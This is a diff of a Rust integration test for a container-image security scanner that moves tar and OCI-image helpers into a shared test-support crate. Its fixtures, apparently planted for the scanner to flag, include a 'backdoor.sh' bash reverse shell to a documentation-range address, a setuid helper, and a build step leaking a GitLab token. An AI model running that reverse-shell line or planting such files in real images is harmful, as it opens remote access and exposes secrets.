@@ -4,12 +4,10 @@
 //! through a real clamd with a signature database written here; and a clean Debian bookworm
 //! (debootstrap, prepared by scripts/test.sh) with nothing to report.
 
-use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 use std::time::{Duration, Instant};
 
-use test_support::{Blob, write_oci_layout};
 
 fn customs() -> &'static Path {
     Path::new(env!("CARGO_BIN_EXE_customs"))
@@ -46,18 +44,7 @@ fn eicar() -> String {
 }
 
 fn tar_gz(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
-    let mut tar = tar::Builder::new(Vec::new());
-    for (path, data, mode) in files {
-        let mut h = tar::Header::new_gnu();
-        h.set_size(data.len() as u64);
-        h.set_mode(*mode);
-        h.set_mtime(0);
-        h.set_cksum();
-        tar.append_data(&mut h, path, *data).unwrap();
-    }
-    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
-    gz.write_all(&tar.into_inner().unwrap()).unwrap();
-    gz.finish().unwrap()
+    test_support::layer_tar_gz(files)
 }
 
 struct Planted {
@@ -91,7 +78,6 @@ fn build(dir: &Path) -> Planted {
         ("usr/local/bin/backdoor.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/9001 0>&1\n", 0o755),
         ("usr/local/bin/helper", b"#!/bin/sh\nexec id\n", 0o4755),
     ]);
-    let layers = vec![Blob::new("application/vnd.oci.image.layer.v1.tar+gzip", layer)];
     let config = serde_json::json!({
         "architecture": "amd64", "os": "linux",
         "config": {
@@ -105,13 +91,7 @@ fn build(dir: &Path) -> Planted {
             {"created_by": format!("|1 GITLAB_TOKEN={} /bin/sh -c git clone https://gitlab.example.com/app.git", planted.build_arg)},
         ],
     });
-    let config = Blob::new("application/vnd.oci.image.config.v1+json", serde_json::to_vec(&config).unwrap());
-    let manifest = serde_json::json!({
-        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
-        "config": config.descriptor(), "layers": layers.iter().map(Blob::descriptor).collect::<Vec<_>>(),
-    });
-    let manifest = bytes::Bytes::from(serde_json::to_vec(&manifest).unwrap());
-    write_oci_layout(dir, "app", ("application/vnd.oci.image.manifest.v1+json", &manifest), std::iter::once(&config).chain(&layers)).unwrap();
+    test_support::write_image(dir, "app", &config, vec![layer]).unwrap();
     planted
 }
 
